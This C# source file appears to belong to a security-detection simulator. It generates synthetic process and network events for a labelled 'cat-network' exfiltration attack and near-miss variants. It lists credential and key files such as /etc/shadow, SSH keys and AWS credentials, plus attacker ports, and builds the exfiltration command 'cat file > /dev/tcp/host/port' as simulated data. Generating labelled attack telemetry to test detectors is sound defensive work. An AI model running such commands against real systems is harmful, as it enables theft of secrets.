namespace Vigil.Simulation;

/// <summary>
/// Injects the labelled cat-network attack and its near-misses. Each instance is a shell (or python3) starting cat,
/// then a connection by that cat (or by another process) after a chosen delay, to a public or private address.
/// </summary>
internal static class Scenarios
{
    private const long Millisecond = 1_000;

    private static readonly string[] Shells = ["bash", "sh", "dash", "zsh"];
    private static readonly string[] StolenFiles = ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/home/deploy/.aws/credentials", "/srv/app/.env", "/var/backups/db.sql"];
    private static readonly int[] AttackerPorts = [4444, 443, 80, 8080, 9001, 1337, 53];

    /// <summary>Schedules one instance of <paramref name="kind"/> on <paramref name="host"/> starting at <paramref name="time"/>.</summary>
    public static ScenarioInstance Inject(SimHost host, ScenarioKind kind, string instanceId, long time)
    {
        Prng random = host.Random;
        var instance = new ScenarioInstance(kind, instanceId, host.Id);
        SimProcess session = host.Sessions.Count > 0 ? random.Pick(host.Sessions) : host.Daemons["cron"];
        string file = random.Pick(StolenFiles);
        int port = random.Pick(AttackerPorts);
        string destination = kind == ScenarioKind.CatNetworkPrivate ? Addresses.Private(random) : Addresses.AttackerPublic(random);

        // Who starts cat: the login bash itself, another shell started from it, or python3 (the wrong-parent case).
        string parentName = kind == ScenarioKind.CatNetworkWrongParent ? "python3" : random.Pick(Shells);
        long t = time;
        SimProcess parent = session;
        if (parentName != session.Name)
        {
            parent = ProcessTree.Fork(host, session, t, scenario: instance);
            t += random.NextLong(200, 1_500);
            if (parentName == "python3")
            {
                ProcessTree.Exec(host, parent, t, "/usr/bin/python3",
                    ["python3", "-c", $"import subprocess; subprocess.run(['cat', '{file}'])"], instance);
            }
            else
            {
                ProcessTree.Exec(host, parent, t, "/usr/bin/" + parentName, [parentName, "-c", $"cat {file} > /dev/tcp/{destination}/{port}"], instance);
            }
        }

        long catFork = t + random.NextLong(500, 3_000);
        long catExec = catFork + random.NextLong(150, 900);
        long connectDelay = kind == ScenarioKind.CatNetworkSlow
            ? random.NextLong(1_400, 1_700) * Millisecond
            : random.NextLong(20, 850) * Millisecond;
        long connect = catExec + connectDelay;
        long duration = random.NextLong(40, 120) * Millisecond;
        long catEnd = connect + duration + random.NextLong(1, 20) * Millisecond;

        SimProcess cat = ProcessTree.Fork(host, parent, catFork, newGroup: parent == session, scenario: instance);
        instance.EntityId = cat.EntityId;
        ProcessTree.Exec(host, cat, catExec, "/usr/bin/cat", ["cat", file], instance);
        SimProcess connector = kind == ScenarioKind.CatNetworkOtherProcess ? parent : cat;
        NetworkActivity.Outbound(host, connector, connect, destination, port, duration, instance);
        ProcessTree.End(host, cat, catEnd, instance);
        if (parent != session)
        {
            ProcessTree.End(host, parent, catEnd + random.NextLong(1, 5) * Millisecond, instance);
        }
        return instance;
    }
}
